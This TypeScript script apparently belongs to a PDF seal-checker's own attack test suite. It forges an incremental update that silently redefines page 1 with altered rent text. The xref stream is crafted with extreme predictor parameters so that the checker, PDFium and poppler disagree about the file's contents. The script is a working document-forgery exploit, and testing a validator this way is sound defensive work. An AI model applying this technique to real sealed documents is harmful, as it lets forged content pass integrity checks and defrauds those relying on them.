// a22: an xref stream with no rows (/Index [C 0], Flate of nothing) and predictor parameters at sealcheck's bounds
// (/Columns 2^24, /Colors 32, /BitsPerComponent 16): zero rows are a whole number of rows, so sealcheck reads an
// empty section. PDFium's CheckFlateDecodeParams refuses Columns * Colors * BitsPerComponent above INT_MAX - 7, the
// stream does not decode, and PDFium rebuilds its table by scanning (if it does); poppler drops the predictor
// (nVals * nBits too large) and reads the same nothing. Unlisted in the update: page 1 re-defined with a22 H1's
// header `00000000004 0 obj`.
// modes: honest (no /DecodeParms), plain (`4 0 obj` headers), big (the parameters above), tiff (the same with /Predictor 2).
//   npx tsx scripts/attack-s17/empty-pred.ts <honest|plain|big|tiff>   REAL=0 for samples/valid
import { deflateSync } from "node:zlib";
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "big";
if (!["honest", "plain", "big", "tiff"].includes(mode)) throw new Error("usage: <honest|plain|big|tiff>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const alloc = new NumberAllocator(doc);
const [B, C] = [alloc.take(), alloc.take()];
const head = (n: number) => (mode === "plain" ? `${n} 0 obj` : `${String(n).padStart(11, "0")} 0 obj`);
const content = latin("1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET\n");
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
push([...latin(`${head(B)}\n<< /Length ${content.length} >>\nstream\n`), ...content, ...latin("\nendstream\nendobj\n")]);
push(latin(`${head(page.ref!.num)}\n${forgedPage}\nendobj\n`));
const offC = at;
const data = [...deflateSync(new Uint8Array(0))];
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parms = mode === "honest" ? "" : ` /DecodeParms << /Predictor ${mode === "tiff" ? 2 : 12} /Colors 32 /BitsPerComponent 16 /Columns ${2 ** 24} >>`;
push([
  ...latin(
    `${C} 0 obj\n<< /Type /XRef /Size ${C + 1} /W [1 4 2] /Index [${C} 0] /Prev ${doc.revisions.at(-1)!.startxref} ${carried.join(" ")} /Filter /FlateDecode${parms} /Length ${data.length} >>\nstream\n`,
  ),
  ...data,
  ...latin(`\nendstream\nendobj\nstartxref\n${offC}\n%%EOF\n`),
]);
const file = save(work(`s17-empty-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`empty-pred ${mode}`, file);
